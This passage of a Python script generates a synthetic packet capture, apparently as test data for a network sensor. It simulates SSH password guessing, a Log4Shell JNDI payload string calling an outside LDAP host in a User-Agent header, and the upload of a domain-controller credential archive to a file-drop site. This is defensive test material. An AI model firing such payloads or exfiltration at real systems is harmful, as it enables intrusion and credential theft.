    return struct.pack("!I", len(b)) + b


def ssh_blob(n):
    return bytes(R.getrandbits(8) for _ in range(n))


# SSH guessing, sized like a password-guessing tool's sessions (cf. Zeek's
# ssh_sshguess trace): key exchange, then per connection a service request, a
# "none" probe and three passwords, each answered by the same small failure.
t = hm(12, 43, 20.0)
for conn in range(12):
    c = Tcp(t, PC, eport(), SSHSRV, 22, rtt=0.0006).open()
    c.send(0, b"SSH-2.0-libssh_0.10.6\r\n", after=0.001)
    c.send(1, b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n", after=0.006)
    c.send(0, ssh_kexinit(["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"],
                          ["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"],
                          ["chacha20-poly1305@openssh.com", "aes256-gcm@openssh.com", "aes128-ctr"],
                          ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256"]), after=0.001)
    c.send(1, ssh_kexinit(["curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256",
                           "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512",
                           "kex-strict-s-v00@openssh.com"],
                          ["rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519"],
                          ["chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr",
                           "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"],
                          ["umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com",
                           "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha2-256"]),
           after=0.001)
    c.send(0, ssh_packet(b"\x1e" + struct.pack("!I", 32) + ssh_blob(32)), after=0.004)
    hostkey = ssh_str(b"ssh-ed25519") + ssh_str(ssh_blob(32))
    sig = ssh_str(b"ssh-ed25519") + ssh_str(ssh_blob(64))
    reply = b"\x1f" + ssh_str(hostkey) + ssh_str(ssh_blob(32)) + ssh_str(sig)
    c.send(1, ssh_packet(reply) + ssh_packet(b"\x15"), after=0.003)
    c.send(0, ssh_packet(b"\x15"), after=0.004)
    # encrypted from here: only sizes matter
    c.send(0, ssh_blob(56), after=0.04)        # SERVICE_REQUEST ssh-userauth
    c.send(1, ssh_blob(56), after=0.0003)      # SERVICE_ACCEPT
    c.send(0, ssh_blob(72), after=0.0007)      # USERAUTH_REQUEST none
    c.send(1, ssh_blob(56), after=0.004)       # USERAUTH_FAILURE
    for k in range(3):
        c.send(0, ssh_blob(152), after=0.9 + R.random() * 0.6)   # password
        c.send(1, ssh_blob(56), after=1.6 + R.random() * 0.9)    # USERAUTH_FAILURE
    c.close(0, after=0.4)
    t = c.t + 0.6 + R.random() * 0.8

# -- 13:01 Log4Shell in a User-Agent, over HTTP to the DMZ web server -----------------
t = hm(13, 1, 33.0)
http(t, SCANNER, WEBDMZ, "www.town-sakura.example.jp", "GET", "/", "${jndi:ldap://45.155.205.99:1389/Exploit}",
     "text/html; charset=utf-8", b"<!DOCTYPE html><html lang=\"ja\"><body>" + b"y" * 1800 + b"</body></html>",
     server="Apache")

# -- 14:31 the archive leaves ---------------------------------------------------------
t = hm(14, 31, 8.0)
dns(t, PC, "files.transfer-box.top", [DROP])
archive = zip_archive("exfil")
bnd = "------------------------a7f3c91e2b4d8f60"
form = (f"--{bnd}\r\n"
        "Content-Disposition: form-data; name=\"file\"; filename=\"sakura_dc01_ntds.zip\"\r\n"
        "Content-Type: application/octet-stream\r\n\r\n").encode() + archive + \
       (f"\r\n--{bnd}\r\nContent-Disposition: form-data; name=\"expires\"\r\n\r\n7d\r\n--{bnd}--\r\n").encode()
http(t + 0.05, PC, DROP, "files.transfer-box.top", "POST", "/upload.php", CURL, "application/json",
     b'{"ok":true,"url":"http://files.transfer-box.top/d/8f3k2q"}',
     req_headers=(f"Content-Type: multipart/form-data; boundary={bnd}",), req_body=form)

# ---------------------------------------------------------------- out
out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "demo",
                                                           "sensor-sakura.pcap")
CAP.write(out)
print(f"{os.path.normpath(out)}: {len(CAP.pkts)} packets, {os.path.getsize(out)} bytes")
